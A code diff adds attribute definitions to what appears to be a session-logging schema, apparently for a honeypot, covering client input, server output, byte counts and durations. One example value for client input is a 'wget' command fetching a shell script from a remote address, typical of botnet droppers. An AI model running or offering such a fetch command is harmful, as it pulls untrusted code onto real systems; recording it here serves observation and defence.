@@ -149,6 +149,22 @@ ATTRIBUTES: dict[str, Text] = {
     "sessionspan.reply.text": Text(
         "The text of the reply behind its codes, at most 512 bytes.", examples=("no such user",)
     ),
+    "sessionspan.input.text": Text(
+        "What the client sent, escaped, at most 4096 bytes of it.",
+        examples=("wget http://198.51.100.7/bins.sh", "HELO attacker.example"),
+        note="Of a protocol that is known: its commands and their arguments, a line each, and of a login the name "
+        "of the command alone. Of another one: the bytes, unless they look like a login.",
+    ),
+    "sessionspan.input.size": Text("Bytes that the client sent.", "int", (22,)),
+    "sessionspan.output.text": Text(
+        "The answer, escaped, at most 4096 bytes of it.",
+        examples=("250 mx.example", "sh: wget: not found"),
+        note="Of a protocol that is known: the replies to the commands of the input.",
+    ),
+    "sessionspan.output.size": Text("Bytes of the answer; 0 when there was none.", "int", (12,)),
+    "sessionspan.interaction.duration": Text(
+        "From the client's first byte to the last one of the answer, in seconds.", "double", (0.0004,)
+    ),
     "sessionspan.idle.duration": Text(
         "How long the client waited for news, in seconds.",
         "double",
